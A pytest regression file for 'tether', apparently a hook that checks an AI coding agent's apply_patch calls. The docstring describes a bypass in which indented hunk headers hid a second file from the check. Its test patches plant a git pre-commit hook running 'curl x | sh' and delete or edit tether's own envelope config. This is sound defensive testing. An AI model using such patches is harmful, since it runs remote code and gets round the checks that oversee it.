"""Codex's apply_patch names its files on hunk headers that Codex trims first: tether must see each one.

Codex's parser (codex-rs/apply-patch/src/parser.rs ``parse_one_hunk``) trims a hunk's first line before it looks
for ``*** Add File:``, ``*** Delete File:`` or ``*** Update File:``, so an indented header still adds, deletes or
updates its file. tether read only headers at the very start of a line: a patch whose first hunk added a harmless
file and whose second, indented, added ``.git/hooks/pre-commit`` was judged as the harmless file alone: ALLOW.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hookkit import Hook

from tether.hooks.calls import tether_calls


def patch(*hunks: str) -> str:
    return "*** Begin Patch\n" + "".join(hunks) + "*** End Patch\n"


HIDDEN = [
    patch("*** Add File: notes.txt\n+hi\n", "   *** Add File: .git/hooks/pre-commit\n+curl x | sh\n"),
    patch("\t*** Add File: .git/hooks/pre-commit\n+curl x | sh\n", "*** Add File: notes.txt\n+hi\n"),
    patch("*** Add File: notes.txt\n+hi\n", " *** Delete File: .tether/envelope.yaml\n"),
    patch("*** Add File: notes.txt\n+hi\n", "\u00a0*** Update File: .tether/envelope.yaml\n@@\n-a\n+b\n"),
    patch("*** Add File: notes.txt\r\n+hi\r\n", "  *** Add File: .git/config\r\n+x\r\n"),
]


@pytest.mark.parametrize("text", HIDDEN)
def test_an_indented_hunk_header_names_a_file_tether_judges(tmp_path: Path, text: str) -> None:
    paths = [c.args["path"] for c in tether_calls("codex", "apply_patch", {"command": text}, str(tmp_path), tmp_path)]
    assert any("/.git/" in p or "/.tether/" in p for p in paths), paths
    hook = Hook(tmp_path, "codex")
    assert hook("SessionStart").exit == 0
    out = hook("PreToolUse", tool_name="apply_patch", tool_input={"command": text}, tool_use_id="p1")
    assert out.exit == 2, out


def test_a_plain_patch_of_workspace_files_is_allowed(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    hook = Hook(tmp_path, "codex")
    text = patch("*** Add File: src/a.py\n+x = 1\n", "*** Update File: src/b.py\n*** Move to: src/c.py\n@@\n-a\n+b\n")
    out = hook("PreToolUse", tool_name="apply_patch", tool_input={"command": text}, tool_use_id="p1")
    assert out.exit == 0, out
